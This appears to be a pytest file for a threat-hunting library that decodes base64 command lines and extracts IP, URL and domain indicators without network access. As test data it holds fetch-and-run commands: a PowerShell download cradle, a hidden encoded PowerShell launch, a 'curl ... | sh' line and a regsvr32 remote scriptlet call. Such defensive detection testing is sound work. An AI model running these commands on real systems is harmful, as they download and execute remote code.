@@ -1,0 +1,81 @@
+"""Decoding hidden commands and extracting indicators, offline."""
+
+import base64
+import socket
+
+import pytest
+
+from hunting_lib.indicators import decode_command_line, extract_indicators, ip_kind
+
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://45.77.12.34/a')"
+
+
+def encode_ps(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+def test_powershell_encoded_command_is_decoded_as_utf16():
+    line = f"powershell.exe -nop -w hidden -enc {encode_ps(CRADLE)}"
+    assert decode_command_line(line) == [CRADLE]
+
+
+def test_utf8_base64_is_decoded_too():
+    blob = base64.b64encode(b"curl http://malicious.example.com/payload | sh").decode()
+    assert decode_command_line(f"cmd /c echo {blob}") == ["curl http://malicious.example.com/payload | sh"]
+
+
+def test_plain_command_lines_decode_to_nothing():
+    assert decode_command_line(r"rundll32.exe C:\Windows\system32\Windows.StateRepositoryClient.dll,Go") == []
+    assert decode_command_line("") == [] and decode_command_line(None) == []
+
+
+def test_binary_blobs_are_not_reported_as_text():
+    blob = base64.b64encode(bytes(range(256))).decode()
+    assert decode_command_line(f"x.exe {blob}") == []
+
+
+def test_indicators_from_command_and_decoded_text():
+    found = extract_indicators([CRADLE, r"regsvr32 /s /n /u /i:http://91.200.1.2/x.sct scrobj.dll",
+                                r"powershell -File C:\Scripts\a.ps1 -Server update.contoso-cdn.com 10.1.2.3"])
+    pairs = set(zip(found["Type"], found["Value"]))
+    assert ("ipv4", "45.77.12.34") in pairs and ("url", "http://45.77.12.34/a") in pairs
+    assert ("url", "http://91.200.1.2/x.sct") in pairs
+    assert ("dns", "update.contoso-cdn.com") in pairs
+    # a.ps1 is a file name, not the domain a.ps
+    assert not any(v.startswith("a.ps") for v in found["Value"])
+    kinds = dict(zip(found["Value"], found["IPKind"]))
+    assert kinds["45.77.12.34"] == "public" and kinds["10.1.2.3"] == "private"
+
+
+def test_extraction_never_touches_the_network(monkeypatch, tmp_path):
+    attempts = []
+
+    def refuse(*args, **kwargs):
+        attempts.append(args)
+        raise OSError("network access attempted")
+
+    import importlib
+
+    import tldextract
+
+    from hunting_lib import indicators
+
+    # Start from tldextract's own default (online) extractor with an empty cache, as a fresh
+    # machine would: it then tries to download the public suffix list.
+    monkeypatch.setenv("TLDEXTRACT_CACHE", str(tmp_path))
+    importlib.reload(tldextract.tldextract)
+    monkeypatch.setattr(tldextract, "extract", tldextract.tldextract.extract)
+    indicators._offline_ioc_extractor.cache_clear()
+    monkeypatch.setattr(socket, "create_connection", refuse)
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    monkeypatch.setattr(socket, "getaddrinfo", refuse)
+    found = extract_indicators(["connect to beacon.evil-example.net now"])
+    assert "beacon.evil-example.net" in set(found["Value"])
+    assert attempts == []
+
+
+@pytest.mark.parametrize("value,kind", [("8.8.8.8", "public"), ("192.168.1.1", "private"),
+                                        ("127.0.0.1", "private"), ("fe80::1", "private"),
+                                        ("2001:4860:4860::8888", "public"), ("", "invalid"), ("x", "invalid")])
+def test_ip_kind(value, kind):
+    assert ip_kind(value) == kind
